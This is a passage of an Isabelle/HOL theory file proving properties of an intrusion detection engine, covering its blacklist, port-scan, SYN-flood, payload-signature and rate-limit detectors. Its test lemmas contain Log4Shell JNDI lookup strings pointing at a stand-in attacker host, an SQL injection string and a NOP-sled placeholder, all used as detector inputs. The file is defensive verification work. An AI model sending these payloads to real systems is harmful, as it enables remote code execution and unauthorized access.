    by (simp only: bl_def Blacklist_load_ip_list_def load_blocks) (simp add: blocks_def Blacklist_new_def)
  then have hit: "Blacklist_check_ip B (V4 a b c d) bl \<noteq> None \<longleftrightarrow>
      u32_from_ipv4 a b c d AND 0xFFFFFF00 = u32_from_ipv4 198 51 100 0 \<or> (a, b, c, d) = (203, 0, 113, 1)" for a b c d
    unfolding lines using addr_line_blocks [of "(203, 0, 113, 1)" a b c d] cidr_line_blocks [of a b c d] com
    by (simp only: line_blocks_def [of "str ''; Spamhaus header''"] line_blocks_def [of "str ''# another comment''"]
        list.set bex_simps not_True_eq_False simp_thms) metis
  show "Blacklist_check_ip B (V4 198 51 100 5) bl \<noteq> None" unfolding hit by simp
  show "Blacklist_check_ip B (V4 203 0 113 1) bl \<noteq> None" unfolding hit by simp
  have "\<not> Blacklist_check_ip B (V4 8 8 8 8) bl \<noteq> None" unfolding hit by simp
  then show "Blacklist_check_ip B (V4 8 8 8 8) bl = None" by blast
qed

lemma port_scan_different_sources_independent:
  assumes "\<forall>p. in_span t0 (sc_ports (clk p))" and "src' \<noteq> src"
  shows "fst (PortScanDetector_inspect h (clk 80) src' 80 (scan_state h (map (\<lambda>p. Observe (clk p, src, p)) (map of_nat [1..<20])))) = None"
proof -
  let ?es = "map (\<lambda>p. Observe (clk p, src, p)) (map of_nat [1..<20])"
  have s: "\<forall>e \<in> set ?es. event_in_span t0 src' e" using assms(2) by auto
  have "seen_ports (inputs_of ?es) src' = {}" using assms(2) by (auto simp: seen_ports_def inputs_of_def)
  then have "scan_flag h (clk 80) src' 80 (scan_state h ?es) \<noteq> Some ''port_scan_horizontal''"
    using horizontal_count [OF s, of "clk 80" h 80] assms(1) by simp
  moreover have p80: "(80 :: u16) \<notin> set (map of_nat [1..<20])" by (simp add: upt_rec)
  have "recent_srcs (insert (clk 80, src', 80) (inputs_of ?es)) (sc_srcs (clk 80)) 80 \<subseteq> {src'}"
    using p80 by (auto simp: recent_srcs_def inputs_of_def image_iff)
  then have "card (recent_srcs (insert (clk 80, src', 80) (inputs_of ?es)) (sc_srcs (clk 80)) 80) \<le> 1"
    using card_mono [of "{src'}"] by simp
  then have "fst (srcs_step h (clk 80) src' 80 (scan_state h ?es)) < 50"
    using srcs_step_recent [OF scan_sound_state [of h ?es] finite_inputs_of, of "clk 80" src' 80] by linarith
  moreover have "scan_std (scan_state h ?es)" using scan_sound_state [of h ?es] by (simp add: scan_sound_def)
  note scan_inspect_eq(1) [OF this, of h "clk 80" src' 80]
  ultimately have "map_option sig_name (fst (PortScanDetector_inspect h (clk 80) src' 80 (scan_state h ?es))) = None"
    unfolding scan_flag_def by (auto simp only: split: if_splits)
  then show ?thesis by (simp only: option.map_disc_iff)
qed

lemma syn_flood_no_trigger_with_balanced_acks:
  assumes "src \<noteq> dst" and "\<forall>i. in_ten t0 (yc_new (clk i)) \<and> in_ten t0 (yc_elapsed (clk i))"
  shows "''syn_flood'' \<notin> set (syn_names (clk 300) src dst 30000 80 0x02
     (syn_run (concat (map (\<lambda>i. [Observe (clk (3 * i), src, dst, 20000 + of_nat i, 80, 0x02),
        Observe (clk (3 * i + 1), dst, src, 80, 20000 + of_nat i, 0x12),
        Observe (clk (3 * i + 2), src, dst, 20000 + of_nat i, 80, 0x10)]) [0..<100])) SynFloodDetector_new))"
proof -
  let ?h = "\<lambda>i. [Observe (clk (3 * i), src, dst, 20000 + of_nat i :: u16, 80 :: u16, 0x02 :: u8),
        Observe (clk (3 * i + 1), dst, src, 80, 20000 + of_nat i, 0x12),
        Observe (clk (3 * i + 2), src, dst, 20000 + of_nat i, 80, 0x10)]"
  have fl: "is_syn 0x02" "\<not> is_syn 0x12" "\<not> is_syn 0x10" "(0x02 :: u8) AND TCP_ACK = 0" "(0x10 :: u8) AND TCP_ACK \<noteq> 0"
    by (simp_all add: is_syn_def det_defs)
  have e: "\<forall>e \<in> set (concat (map ?h [0..<100])). syn_in_span t0 src e" using assms by auto
  have n: "observed (syn_from src) (concat (map ?h is)) = length is \<and> observed (ack_from src) (concat (map ?h is)) = length is" for "is"
    using assms(1) fl by (induction "is") (auto simp: observed_def syn_from_def ack_from_def)
  show ?thesis
    using flood_iff [OF e, where clk = "clk 300" and m = 101 and n = 100 and flags = "0x02" and dst = dst and sp = 30000 and dp = 80] assms(2) n [of "[0..<100]"] fl by simp
qed

section \<open>The payload matcher\<close>

text \<open>Whether a signature occurs, with a quick test first: all its bytes occur.  A text in which one
  signature occurs is reported under its name, once, by every matcher that finds occurrences.\<close>

definition occurs_in :: "bytes \<Rightarrow> bytes \<Rightarrow> bool" where
  "occurs_in pat s =
     (if list_all (\<lambda>b. List.member (map ascii_lower s) (ascii_lower b)) pat
      then list_ex (\<lambda>i. occurs_at pat i s) [0..<Suc (length s)] else False)"

lemma occurs_in_iff: "occurs_in pat s \<longleftrightarrow> (\<exists>i. occurs_at pat i s)"
proof
  assume "\<exists>i. occurs_at pat i s"
  then obtain i where i: "occurs_at pat i s" ..
  then have "map ascii_lower pat = map ascii_lower (take (length pat) (drop i s))" by (simp add: occurs_at_def)
  then have "set (map ascii_lower pat) \<subseteq> set (map ascii_lower s)"
    by (metis image_mono list.set_map order_trans set_drop_subset set_take_subset)
  moreover have "i \<in> set [0..<Suc (length s)]" using i by (auto simp: occurs_at_def)
  ultimately show "occurs_in pat s" using i by (auto simp: occurs_in_def list_all_iff list_ex_iff)
qed (auto simp: occurs_in_def list_ex_iff split: if_splits)

definition signatures_in :: "bytes \<Rightarrow> string list" where
  "signatures_in s = map (\<lambda>(_, n, _). n) (filter (\<lambda>(pat, _, _). occurs_in pat s) SIGNATURES)"

lemma scan_finds:
  assumes "ac_ok ac" and "signatures_in s = [n]"
  shows "map_option (map sig_name) (PayloadScanner_scan_all ac s PayloadScanner_new) = Some [n]"
proof -
  obtain sigs where s: "PayloadScanner_scan_all ac s PayloadScanner_new = Some sigs" "\<forall>x \<in> set sigs. reports s x"
    "distinct (map sig_name sigs)" "sigs = [] \<longleftrightarrow> (\<forall>(pat, _, _) \<in> set SIGNATURES. \<forall>i. \<not> occurs_at pat i s)"
    using scan_all_exact [OF assms(1)] by blast
  have name: "m = n" if "(pat, m, sc) \<in> set SIGNATURES" "occurs_in pat s" for pat m sc
  proof -
    have "m \<in> set (signatures_in s)" unfolding signatures_in_def using that by force
    then show ?thesis by (simp add: assms(2))
  qed
  have "set (map sig_name sigs) \<subseteq> {n}"
  proof -
    have "sig_name x = n" if x: "x \<in> set sigs" for x
    proof -
      obtain pat m sc i where "(pat, m, sc) \<in> set SIGNATURES" "occurs_at pat i s" "sig_name x = m"
        using s(2) x unfolding reports_def by fastforce
      with name show ?thesis unfolding occurs_in_iff by blast
    qed
    then show ?thesis by auto
  qed
  moreover have "sigs \<noteq> []"
  proof
    assume "sigs = []"
    then have "signatures_in s = []"
      using s(4) unfolding signatures_in_def by (auto simp: filter_empty_conv occurs_in_iff)
    then show False by (simp add: assms(2))
  qed
  ultimately have "map sig_name sigs = [n]"
    using s(3) by (cases sigs; cases "tl sigs") auto
  then show ?thesis by (simp add: s(1))
qed

lemma scan_silent:
  assumes "ac_ok ac" and "signatures_in s = []"
  shows "PayloadScanner_scan_all ac s PayloadScanner_new = Some []"
proof -
  have "\<forall>(pat, _, _) \<in> set SIGNATURES. \<forall>i. \<not> occurs_at pat i s"
    using assms(2) by (auto simp: signatures_in_def filter_empty_conv occurs_in_iff)
  then show ?thesis using scan_all_exact [OF assms(1), of s] by auto
qed

lemma payload_log4shell_detected:
  assumes "ac_ok ac"
  shows "map_option (map sig_name) (PayloadScanner_scan_all ac (str ''GET / HTTP/1.1'' @ [0x0D, 0x0A] @
     str ''X-Api-Version: ${jndi:ldap://evil.com/x}'' @ [0x0D, 0x0A]) PayloadScanner_new) = Some [''log4shell_jndi'']"
  by (rule scan_finds [OF assms]) code_simp

lemma payload_nop_sled_detected:
  assumes "ac_ok ac"
  shows "map_option (map sig_name) (PayloadScanner_scan_all ac (replicate 8 0x90 @ str ''shellcode_here'') PayloadScanner_new) =
     Some [''nop_sled'']"
  by (rule scan_finds [OF assms]) code_simp

lemma payload_sqli_detected:
  assumes "ac_ok ac"
  shows "map_option (map sig_name) (PayloadScanner_scan_all ac (str ''GET /login?user='' @ [0x27] @ str '' OR '' @ [0x27] @
     str ''1'' @ [0x27] @ str ''='' @ [0x27] @ str ''1 HTTP/1.1'' @ [0x0D, 0x0A]) PayloadScanner_new) = Some [''sqli_or_1eq1'']"
  by (rule scan_finds [OF assms]) code_simp

lemma payload_duplicate_matches_deduped:
  assumes "ac_ok ac"
  shows "map_option (map sig_name) (PayloadScanner_scan_all ac (str ''${jndi:ldap://a.com}GET /${jndi:rmi://b.com}'')
     PayloadScanner_new) = Some [''log4shell_jndi'']"
  by (rule scan_finds [OF assms]) code_simp

lemma payload_clean_traffic_empty:
  assumes "ac_ok ac"
  shows "PayloadScanner_scan_all ac (str ''GET / HTTP/1.1'' @ [0x0D, 0x0A] @ str ''Host: example.com'' @ [0x0D, 0x0A] @
     str ''Accept: */*'' @ [0x0D, 0x0A, 0x0D, 0x0A]) PayloadScanner_new = Some []"
  by (rule scan_silent [OF assms]) code_simp

lemma engine_payload_sig_fires_log4shell:
  assumes "ac_ok (env_ac env)"
  shows "\<exists>r e'. IdsEngine_analyze env clk (make_pkt (V4 10 0 0 1) (V4 10 0 0 2) 6 (Some 54321) (Some 80) (Some 0x18)
       (str ''${jndi:ldap://evil.example.com/x}'')) (make_engine B js disk now) = Some (r, e') \<and>
     ''log4shell_jndi'' \<in> sig_name ` set (signals r) \<and> \<not> IdsResult_is_clean r"
proof -
  let ?pl = "str ''${jndi:ldap://evil.example.com/x}''" and ?e = "make_engine B js disk now"
  let ?pkt = "make_pkt (V4 10 0 0 1) (V4 10 0 0 2) 6 (Some 54321) (Some 80) (Some 0x18) ?pl"
  obtain tm where tm: "transport ?pkt = Some tm" by (simp add: make_pkt_def Let_def)
  have "?pl \<noteq> []" by code_simp
  then have pl: "payload_of ?pkt tm = ?pl" "has_payload ?pkt tm"
    using tm by (auto simp: make_pkt_def Let_def payload_of_def has_payload_def)
  have "signatures_in ?pl = [''log4shell_jndi'']" by code_simp
  from scan_finds [OF assms this] obtain s where
    s: "PayloadScanner_scan_all (env_ac env) ?pl PayloadScanner_new = Some [s]" "sig_name s = ''log4shell_jndi''" by auto
  then have f: "(5, s) \<in> set (findings env clk ?pkt tm ?e)"
    by (simp add: findings_defs tagged_def payload_hits_def pl)
  have "reports ?pl s" by (rule scan_all_reports [OF assms s(1)]) simp
  then have "30 \<le> sig_score s" using s(2) by (auto simp: reports_def SIGNATURES_def det_defs)
  with total_ge_finding [OF assms make_engine_payload f] have "\<not> IdsResult_is_clean (packet_result env clk ?pkt tm ?e)"
    by (simp add: IdsResult_is_clean_def det_defs)
  then show ?thesis
    using engine_reports [OF assms make_engine_payload tm f] s(2) analyze_findings [OF assms make_engine_payload tm, of clk] by auto
qed

section \<open>Independent sources of the rate limiter\<close>

lemma rate_other_sources:
  assumes "src' \<noteq> src"
  shows "fst (RateLimiter_inspect clk' src' n' syn'
       (snd (detector_run rate_obs RateLimiter_sweep (map (\<lambda>clk. Observe (clk, src, n, syn)) clks) rl))) =
     fst (RateLimiter_inspect clk' src' n' syn' rl)"
  by (induction clks arbitrary: rl) (simp_all add: rate_obs_def split_beta rate_sources_independent [OF assms])

lemma rate_limiter_separate_ips_independent:
  "fst (RateLimiter_inspect clk (V4 10 0 1 2) 100 False (snd (detector_run rate_obs RateLimiter_sweep
     (map (\<lambda>i. Observe (clks i, V4 10 0 1 1, 100, False)) [0..<1100]) RateLimiter_new))) = None"
proof -
  have "fst (RateLimiter_inspect clk (V4 10 0 1 2) 100 False RateLimiter_new) = None"
    by (rule first_packet_within_limits) simp
  then show ?thesis
    using rate_other_sources [of "V4 10 0 1 2" "V4 10 0 1 1" clk 100 False 100 False "map clks [0..<1100]" RateLimiter_new]
    by (simp only: map_map comp_def) simp
qed

end
